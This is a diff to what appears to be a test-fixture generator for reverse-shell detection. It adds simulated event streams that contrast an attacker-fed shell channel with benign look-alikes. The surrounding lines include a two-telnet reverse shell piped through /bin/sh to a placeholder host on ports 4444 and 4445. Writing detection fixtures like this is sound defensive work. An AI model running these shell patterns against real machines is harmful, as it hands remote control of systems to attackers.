@@ -164,6 +164,18 @@ def shells():
         s.traffic(900, 1, 100 * i, (i + 1) + sum(len(c) for c in ("id", "uname -a", "ls -la /")[:i + 1]), "203.0.113.66", 4444)
         s.run(2, "/bin/sh", "sh", "-c", command, pid=300 + i, stdout_id=40 + i)
     s.save()
+    def channel(name, commands, frame, template="%s", **feed):
+        s, came = there(name).traffic(100, 1, 60, 200, "203.0.113.66", 4444), 200
+        for i, command in enumerate(commands):
+            came += frame + len(command)
+            s.traffic(900, 1, 100 * i + 60, came, "203.0.113.66", 4444)
+            if feed:
+                s.add(1, kind="feed", pid=300 + i, **feed)
+            s.run(1, "/bin/sh", "sh", "-c", template % command, pid=300 + i, stdout_id=40 + i)
+        s.save()
+    channel("attack-channel", ("id", "uname -a", "ls -la /", "df"), 36, flags="as_came")
+    channel("honest-worker-of-a-channel", ("id", "uname -a", "ls -la /", "w"), 36, "printf %%s '%s' | sha256sum | head -c 12")
+    channel("honest-web-client", ("id", "uname -a", "ls -la /", "w"), 150, flags="as_came")
     s = Stream("reverse_shells.attack-two-telnets").run(4, "/usr/bin/telnet", "telnet", "203.0.113.66", "4444", pid=201, stdout_id=71)
     s.run(1, "/bin/sh", "/bin/sh", pid=202, **PIPES).run(1, "/usr/bin/telnet", "telnet", "203.0.113.66", "4445", pid=203, stdin="pipe", stdin_id=72)
     s.connect(3, "203.0.113.66", 4444, pid=201).connect(3, "203.0.113.66", 4445, pid=203).save()
